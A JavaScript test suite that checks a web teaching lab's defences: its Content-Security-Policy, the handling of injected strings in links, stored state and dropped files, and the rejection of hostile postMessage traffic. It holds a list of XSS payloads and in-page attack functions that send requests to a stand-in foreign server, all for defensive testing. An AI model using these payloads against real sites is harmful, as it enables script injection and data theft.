// What a script that got into the page could not do: attacks on the security policy, which stands in the answer's head
// and in the page's; strings that would be scripts, wherever strings go; and messages from those who may not send any.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { settled, until, values } from "./browser.mjs";
import { hosted, openHost, originOf } from "./hosts.mjs";

// Another origin, which remembers who asked it for anything.
async function foreignSite() {
  const asked = [];
  const server = createServer((request, response) => {
    asked.push(request.url);
    response.writeHead(200, { "Content-Type": request.url.endsWith(".js") ? "text/javascript" : "text/plain", "Access-Control-Allow-Origin": "*" });
    response.end(request.url.endsWith(".js") ? `window.hits.push("${request.url}")` : "");
  });
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  return { address: `http://127.0.0.1:${server.address().port}/`, asked, end: () => (server.closeAllConnections(), server.close()) };
}

// Runs in the page, and there outside of what drives it: for that, eval is allowed. Each attack with what became of it.
const attackAll = async ({ foreign, patienceMs }) => {
  window.hits = [];
  const stopped = [];
  document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => stopped.push(effectiveDirective));
  const add = (name, change) => {
    const made = document.createElement(name);
    change(made);
    (name === "base" || name === "link" ? document.head : document.body).append(made);
    return made;
  };
  const attacks = {
    "an inline script": () => add("script", (one) => one.append("window.hits.push('an inline script')")),
    "an inline handler": () => add("img", (one) => {
      one.setAttribute("onerror", "window.hits.push('an inline handler')");
      one.src = "data:image/png,none";
    }),
    "a javascript: address": () => add("a", (one) => (one.href = "javascript:void window.hits.push('a javascript: address')")).click(),
    "eval": () => (0, eval)("window.hits.push('eval')"),
    "Function": () => new Function("window.hits.push('Function')")(),
    "a timer's text": () => setTimeout("window.hits.push(\"a timer's text\")"),
    "a script from elsewhere": () => add("script", (one) => (one.src = `${foreign}script.js`)),
    "a module from elsewhere": () => import(`${foreign}module.js`),
    "fetch": () => fetch(`${foreign}fetch`),
    "a beacon": () => navigator.sendBeacon(`${foreign}beacon`, "state"),
    "a request": () => {
      const request = new XMLHttpRequest();
      request.open("GET", `${foreign}request`);
      request.send();
      return new Promise((done, failed) => Object.assign(request, { onload: done, onerror: failed }));
    },
    "an image": () => add("img", (one) => (one.src = `${foreign}image`)),
    "a style sheet": () => add("link", (one) => Object.assign(one, { rel: "stylesheet", href: `${foreign}style` })),
    "a frame": () => add("iframe", (one) => (one.src = `${foreign}frame`)),
    "a base": () => add("base", (one) => (one.href = foreign)),
    "markup in a sink": () => add("div", (one) => (one.innerHTML = "<img src='data:image/png,none' onerror=\"window.hits.push('markup in a sink')\">")),
    "a form": async () => {
      const frame = add("iframe", (one) => (one.name = "elsewhere"));
      await new Promise((done) => setTimeout(done, 100));  // its own first page comes before
      add("form", (one) => Object.assign(one, { action: `${foreign}form`, target: frame.name })).submit();
    },
  };
  const became = {};
  for (const [name, attack] of Object.entries(attacks)) {
    const before = stopped.length;
    let thrown = "";
    await new Promise((done) => setTimeout(async () => {
      try {
        await attack();
      } catch (error) {
        thrown = error.name;
      }
      // What the browser stops outside of the page is told a while later.
      for (const end = Date.now() + patienceMs; Date.now() < end && thrown === "" && stopped.length === before;)
        await new Promise((later) => setTimeout(later, 20));
      done();
    }));
    became[name] = stopped.length > before ? stopped.at(-1) : thrown;
  }
  return { became, hits: window.hits, base: document.baseURI };
};

async function attacksAreBlocked(bench) {
  const foreign = await foreignSite();
  try {
    const page = await bench.open("?view=table");
    bench.pages.at(-1).allowed = [/./];
    const address = await page.url();
    const { became, hits, base } = await page.evaluate(attackAll, { foreign: foreign.address, patienceMs: 5000 });
    assert.deepEqual(hits, []);
    assert.deepEqual(foreign.asked, []);
    assert.equal(base.split("#")[0], address.split("#")[0]);
    assert.deepEqual(Object.entries(became).filter(([, what]) => what === ""), [], "nothing stopped it");
    await page.evaluate(() => document.querySelector('#twin [data-node="causal"] [role=switch]').click());
    assert.equal((await values(page)).mask, "none");

    // The control: without a policy all of them come through.
    const open = await openHost(bench, "<p>No policy.</p>", { allowed: [/./] });
    const free = await open.evaluate(attackAll, { foreign: foreign.address, patienceMs: 60 });
    for (const name of ["an inline script", "an inline handler", "a javascript: address", "eval", "Function", "a timer's text", "/script.js", "/module.js",
      "/fetch", "/beacon", "/request", "/image", "/style", "/frame", "markup in a sink", "/form"])
      await until(`${name} among what came through`, () => [...free.hits, ...foreign.asked].some((one) => one.startsWith(name)));
    assert.equal(free.base, foreign.address);
  } finally {
    foreign.end();
  }
}

async function headAndPage({ home }) {
  for (const name of ["", "lookback.html", "promises.html", "tests.html"]) {
    const answer = await fetch(home + name);
    const inPage = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">\n<meta charset/.exec((await answer.text()).slice(0, 4000))[1];
    assert.match(inPage, /^default-src 'none'; script-src [^;]*; .*base-uri 'none'; form-action 'none'; require-trusted-types-for 'script'/, name);
    assert.doesNotMatch(inPage, /unsafe-inline|unsafe-eval'(?<!wasm-unsafe-eval')|\*|https?:/, name);
    assert.equal(answer.headers.get("content-security-policy"), inPage, name);
  }
}

// What would be elements with a mark, or a call, if anything took it for more than words.
const short = ["<b x-injected>", "<img x-injected src onerror=h()>", "<svg x-injected onload=h()>", "\"><b x-injected>", "'><b x-injected>", "--><b x-injected>",
  "</td></tr><b x-injected>", "{{constructor}}", "${h()}", "__proto__", "&lt;b x-injected&gt;", "\u202e<b x-injected>", "<a x-injected href=//x>", "=h()", "%3Cb x-injected%3E"];
const injections = [...short, "<script x-injected>h()</script>", "</textarea><b x-injected onclick=h()>here</b>", "</title><b x-injected>", "</script><script x-injected>h()</script>",
  "<iframe x-injected srcdoc='<script>parent.h()</script>'>", "javascript:window.h()", "data:text/html,<script x-injected>parent.h()</script>",
  "<math x-injected><mtext><img src onerror=h()></mtext></math>", "<style x-injected>*{display:none}</style>", "<base x-injected href=//elsewhere.example>",
  "<meta x-injected http-equiv=refresh content=0>", "<details x-injected open ontoggle=h()>", "<input x-injected autofocus onfocus=h()>", "<form x-injected action=//elsewhere.example><button>go",
  "{{constructor.constructor('window.h()')()}}", "<template x-injected shadowrootmode=open><img src onerror=h()></template>", "<!--><img x-injected src onerror=h()>"];

// Nothing of them became an element, nothing was called.
async function onlyWords(page, where) {
  assert.deepEqual(await page.evaluate(() => [document.querySelectorAll("[x-injected]").length, window.called ?? 0]), [0, 0], where);
}

async function injected(bench) {
  const words = injections.map(encodeURIComponent);
  const query = ["lesson", "step", "theme", "hide", "host", "lang", "seed", "view", "nonsense"].map((name, index) => `${name}=${words[index * 3]}`).join("&");
  const before = () => {
    window.called = 0;
    window.h = () => ++window.called;
    const link = `#version=1&tokens=${encodeURIComponent("<b x-injected>")},b&position=2`;
    const trail = { study: "board", studies: { board: { links: ["#version=1", link], present: 1 } } };
    try {
      localStorage.setItem("lookback.kept:/:other", JSON.stringify({ version: 1, at: Date.now(), search: "", addresses: [], trail }));
    } catch {
      // Where nothing is kept, nothing is offered.
    }
  };
  const page = await bench.open(`?${query}&${words[1]}=${words[2]}`, { before });
  bench.pages.at(-1).allowed = [/^info: There is no table of strings for lang=/];
  await onlyWords(page, "the query, and what was kept");
  const shown = await page.evaluate(async ([names, all]) => {
    const seen = [];
    const look = (where) => document.querySelector("[x-injected]") && seen.push(where);
    const open = window.lookback.open;
    const refused = open(`#version=1&tokens=${names.map(encodeURIComponent).join(",")}&position=${names.length}`);
    await new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)));
    look("tokens");
    const tokens = window.lookback.values().tokens;
    for (const one of all) {
      for (const key of ["tokens", "mask", "mechanism", "study", "Q", "form", "z", "c", one]) open(`#version=1&${encodeURIComponent(key)}=${encodeURIComponent(one)}`);
      window.lookback.check(one);
      window.lookback.value(one);
      look(`links with ${one}`);
    }
    return { seen, refused, tokens };
  }, [short, injections]);
  assert.deepEqual(shown, { seen: [], refused: "", tokens: short });

  // Files: their names, the names in them, and what they say.
  const told = await page.evaluate(async ([all, names]) => {
    const seen = [];
    const bytes = (words) => new TextEncoder().encode(words);
    const safetensors = (name) => {
      const header = bytes(JSON.stringify({ [name]: { dtype: "U8", shape: [1, 1], data_offsets: [0, 1] }, __metadata__: { note: name } }));
      return [new Uint8Array(new BigUint64Array([BigInt(header.length)]).buffer), header, Uint8Array.of(7)];
    };
    const files = names.flatMap((one) => [
      new File(["1,2\n3,4"], `${one}.csv`), new File(["no"], `${one}.npy`), new File(["no"], one), new File(safetensors(one), "model.safetensors"),
      new File([`${JSON.stringify(one)},a\n${JSON.stringify(one)},1\n`], "rows.csv"), new File([JSON.stringify({ lookback: 1, link: one, notes: one })], "state.json")]);
    for (const file of files) {
      const event = new Event("drop", { bubbles: true, cancelable: true });
      Object.defineProperty(event, "dataTransfer", { value: { types: ["Files"], files: [file] } });
      document.body.dispatchEvent(event);
      const said = () => document.querySelector("dialog[open]")?.textContent ?? "";
      for (let patience = 100; !/\.(?! )|Use it as/.test(said()) && patience > 0; --patience) await new Promise((done) => setTimeout(done, 10));
      if (document.querySelector("[x-injected]")) seen.push(file.name);
      document.querySelector("dialog[open]")?.close();
    }
    return seen;
  }, [injections, short.slice(0, 8)]);
  assert.deepEqual(told, []);
  await page.evaluate((names) => window.lookback.open(`#version=1&tokens=${names.map(encodeURIComponent).join(",")}&position=1`), short);
  for (const tab of ["link", "code", "embed", "file"]) {
    await page.evaluate((name) => {
      if (!document.querySelector("dialog[open]")) document.querySelector(".lesson-share").click();
      document.querySelector(`#dialog-tab-${name}`)?.click();
    }, tab);
    await settled(page);
    await onlyWords(page, `the dialog's ${tab}`);
  }
  await onlyWords(page, "all of it");
}

// Two labs: one that this host may set, and one whose address names another. Everything is said and asked by the host's
// page, so that every engine can take part.
async function messagesChangeNothing(bench) {
  const page = await openHost(bench, "<p>A course.</p>", { allowed: [/target origin provided|recipient window's origin|Unable to post message/i] });
  const start = "#version=1&mask=causal&tokens=a,b,c&position=2";
  const outcome = await page.evaluate(async ([home, link, sibling]) => {
    const heard = [];
    addEventListener("message", ({ data, source }) => heard.push({ data, source }));
    const wait = (milliseconds) => new Promise((done) => setTimeout(done, milliseconds));
    const until = async (what, look) => {
      for (let patience = 1200; patience > 0; --patience, await wait(50)) if (look()) return look();
      throw new Error(`waited in vain for ${what}; heard ${JSON.stringify(heard.map(({ data }) => data)).slice(0, 500)}`);
    };
    const lab = (host) => {
      const frame = document.createElement("iframe");
      Object.assign(frame, { title: "Lab", width: "900", height: "500", src: `${home}?embed=1&view=table&host=${host}${link}` });
      document.body.append(frame);
      return frame.contentWindow;
    };
    const labs = [lab(location.origin), lab("https://course.example")];
    const ask = async (to, message) => {
      const id = `${Math.random()}`;
      to.postMessage({ lookback: 1, id, ...message }, "*");
      return (await until(`an answer to ${message.type}`, () => heard.find(({ data }) => data.id === id))).data;
    };
    await until("the lab", () => heard.some(({ data, source }) => source === labs[0] && data.type === "ready"));
    // The second lab is ready for a host that is not this one, and hears nothing before it is: it is asked until it answers.
    for (const one of labs) {
      const answers = () => heard.some(({ data, source }) => source === one && data?.ok === true);
      for (let patience = 240; !answers(); --patience) {
        if (patience === 0) throw new Error("a lab that never answered");
        one.postMessage({ lookback: 1, id: "there", type: "get" }, "*");
        await wait(250);
      }
    }
    const states = async () => Promise.all(labs.map(async (one) => (await ask(one, { type: "get" })).state));
    const begin = await states();
    const said = {};
    const check = async (what) => {
      await wait(1100);  // what was counted is forgotten
      const now = await states();
      if (now.join() !== begin.join()) said[what] = now;
    };
    const other = "#version=1&mask=none&tokens=x";
    // Wrong origin: not the one that the second lab's address names.
    for (const type of ["set", "reset", "undo", "redo", "export", "focus"])
      if ((await ask(labs[1], { type, state: other, format: "link" })).code !== "not-allowed") said[type] = "was allowed";
    // Wrong source: a frame beside the labs, of this origin and of another.
    for (const own of [true, false]) {
      const frame = document.createElement("iframe");
      if (own) frame.srcdoc = `<script>for (const lab of [parent.frames[0], parent.frames[1]]) lab.postMessage({ lookback: 1, type: "set", state: "${other}" }, "*"); parent.postMessage("sent", "*")</${"script"}>`;
      else frame.src = sibling;
      heard.length = 0;
      document.body.append(frame);
      await until("the frame beside them", () => heard.some(({ data }) => data === "sent"));
    }
    await check("a frame beside them");
    // Wrong shapes and sizes.
    const shapes = ["set", 1, null, undefined, [], {}, true, new Date(0), new Map([["lookback", 1]]), new Uint8Array(8), { lookback: "1", type: "set", state: other }, { lookback: 2, type: "set", state: other },
      { lookback: 1 }, { lookback: 1, type: {} }, { lookback: 1, type: ["set"], state: other }, { lookback: 1, type: "SET", state: other }, { lookback: 1, type: "__proto__" }, { lookback: 1, type: "constructor" },
      { lookback: 1, type: "set" }, { lookback: 1, type: "set", state: 5 }, { lookback: 1, type: "set", state: null }, { lookback: 1, type: "set", state: { toString: "x" } }, { lookback: 1, type: "set", state: "#mask=purple" },
      { lookback: 1, type: "set", state: other, padding: "x".repeat(70_000) }, { lookback: 1, type: "set", state: 10n }, { lookback: 1, type: "set", state: `#version=1&tokens=${"a,".repeat(30_000)}` }];
    const ring = { lookback: 1, type: "set", state: other };
    ring.ring = ring;
    for (const shape of [...shapes, ring]) {
      labs[0].postMessage(shape, "*");
      await wait(40);
    }
    await check("shapes and sizes");
    // A flood: of what may be asked, with what would change the state at its end.
    for (let i = 0; i < 3000; ++i) labs[0].postMessage({ lookback: 1, type: i < 2990 ? "get" : "set", state: other }, "*");
    await until("the complaint", () => heard.some(({ data }) => data?.code === "rate"));
    await check("a flood");
    // The control: the host that the address names may.
    await ask(labs[0], { type: "set", state: other });
    said.control = (await states())[0] !== begin[0];
    return said;
  }, [bench.home, start, await hosted(`<script>for (const lab of [parent.frames[0], parent.frames[1]]) lab.postMessage({ lookback: 1, type: "set", state: "#version=1&mask=none&tokens=x" }, "*"); parent.postMessage("sent", "*")</script>`)]);
  assert.deepEqual(outcome, { control: true });
  assert.ok(originOf(await page.url()) !== originOf(bench.home));
}

export const tests = [
  ["seventeen attacks on the page are blocked", attacksAreBlocked],
  ["it stands in the answer and in the page, and is strict", headAndPage],
  ["strings that would be scripts stay words", injected],
  ["messages of wrong sources, origins, shapes and sizes, and floods, change nothing", messagesChangeNothing],
];
